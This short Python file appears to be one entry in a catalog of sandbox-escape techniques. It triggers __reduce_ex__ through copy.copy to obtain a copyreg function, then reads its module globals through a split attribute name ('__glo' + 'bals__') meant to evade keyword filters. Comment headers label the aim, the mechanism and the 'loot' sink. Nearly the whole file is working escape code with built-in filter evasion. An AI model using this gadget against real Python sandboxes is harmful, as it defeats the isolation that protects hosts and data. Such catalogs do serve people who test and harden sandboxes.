# aim: take the reducing function out of an object of the program's own through copy
# mechanism: super().__reduce_ex__ inside __reduce_ex__ returns a function of copyreg
# language: builtins
# reason: a function of copyreg leads to its module
# jail: process
# plain: loot

import copy


class Carrier:
    def __reduce_ex__(self, protocol):
        made = super().__reduce_ex__(4)
        loot(getattr(made[0], "__glo" + "bals__"))
        return made


copy.copy(Carrier())
